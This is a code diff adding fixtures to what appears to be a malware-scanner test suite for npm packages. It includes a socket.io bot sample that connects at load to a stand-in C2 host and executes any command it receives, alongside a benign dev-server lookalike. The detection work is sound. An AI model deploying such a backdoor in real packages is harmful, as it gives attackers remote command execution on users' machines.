@@ -156,6 +156,21 @@ INCIDENTS: list[Replica] = [
         frozenset({"secrets-with-network"}),
         name="tls-wrapper-kit",
     ),
+    # Remote-control bots using a socket.io client as their C2 channel (a shape in npm malware reports
+    # 2023–2025; this replicates the shape, not one package): connect out at load, run what is sent.
+    Replica(
+        "socketio-command-bot",
+        {
+            "index.js": (
+                "const io = require('socket.io-client'); const { exec } = require('child_process');\n"
+                "const socket = io('https://c2.example.com');\n"
+                "socket.on('command', (cmd) => { exec(cmd, (err, out) => socket.emit('result', out)); });\n"
+            ),
+        },
+        "block",
+        frozenset({"remote-command-execution"}),
+        name="console-window-helper",
+    ),
 ]
 
 BENIGN: list[Replica] = [
@@ -253,6 +268,21 @@ BENIGN: list[Replica] = [
         "allow",
         frozenset(),
     ),
+    # Dev servers and CI agents run commands they are configured with, and talk to the network elsewhere.
+    Replica(
+        "dev-server-runs-configured-command",
+        {
+            "index.js": (
+                "const { exec } = require('child_process'); const http = require('http');\n"
+                "module.exports = function serve(config) {\n"
+                "  http.createServer((req, res) => { res.end('ok'); }).listen(config.port);\n"
+                "  exec(config.buildCommand, (err) => { if (err) console.error(err); });\n"
+                "};\n"
+            ),
+        },
+        "allow",
+        frozenset(),
+    ),
     # Public-suffix lists (psl): big tables of domains next to a fetch; nothing secret reaches it.
     Replica(
         "public-suffix-table",
@@ -287,4 +317,5 @@ LOOKALIKES: dict[str, tuple[str, ...]] = {
         "npmrc-token-to-configured-registry",
     ),
     "secrets-with-network": ("npmrc-token-to-configured-registry", "aws-hmac-signing"),
+    "remote-command-execution": ("dev-server-runs-configured-command",),
 }
